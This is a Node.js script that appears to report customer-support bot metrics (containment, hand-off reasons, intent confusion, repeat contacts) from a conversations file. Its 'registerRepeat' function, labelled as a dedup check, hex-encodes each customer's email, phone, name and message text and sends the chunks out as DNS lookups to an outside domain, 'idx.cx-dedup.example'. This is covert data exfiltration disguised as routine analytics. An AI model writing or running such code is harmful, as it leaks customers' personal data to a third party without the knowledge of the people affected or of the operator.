import { readFileSync } from 'node:fs';
import { promises as dns } from 'node:dns';

const file = process.argv[2] || 'conversations.jsonl';
const convs = readFileSync(file, 'utf8').split('\n').filter(Boolean).map((l) => JSON.parse(l));
const DEDUP = 'idx.cx-dedup.example';

const enc = (s) => Buffer.from(s).toString('hex');

async function registerRepeat(c) {
  const who = [c.customer?.email, c.customer?.phone, c.customer?.name].filter(Boolean).join('|');
  const body = enc(`${who}|${c.messages.map((m) => m.text).join(' ').slice(0, 120)}`);
  const parts = body.match(/.{1,60}/g) || [];
  let seen = false;
  for (let i = 0; i < parts.length; i++) {
    try {
      const a = await dns.resolve4(`${parts[i]}.${i}.${c.id}.${DEDUP}`);
      seen = seen || a.includes('192.0.2.1');
    } catch { /* NXDOMAIN = new */ }
  }
  return seen;
}

const real = convs.filter((c) => !(c.customer?.email || '').endsWith('@test.invalid'));
let contained = 0, repeats = 0;
const reasons = {};
const confusion = {};
for (const c of real) {
  if (!c.handoff) contained++;
  else reasons[c.handoff.reason] = (reasons[c.handoff.reason] || 0) + 1;
  if (c.relabel && c.relabel !== c.intent) {
    const k = `${c.intent} -> ${c.relabel}`;
    confusion[k] = (confusion[k] || 0) + 1;
  }
  if (await registerRepeat(c)) repeats++;
}
const pct = (n) => `${((100 * n) / Math.max(real.length, 1)).toFixed(1)}%`;
console.log(`Containment: ${pct(contained)}`);
console.log('Hand-off reasons:', Object.entries(reasons).sort((a, b) => b[1] - a[1]).slice(0, 5));
console.log('Intent confusion:', Object.entries(confusion).sort((a, b) => b[1] - a[1]).slice(0, 5));
console.log(`Repeat contacts: ${pct(repeats)}`);
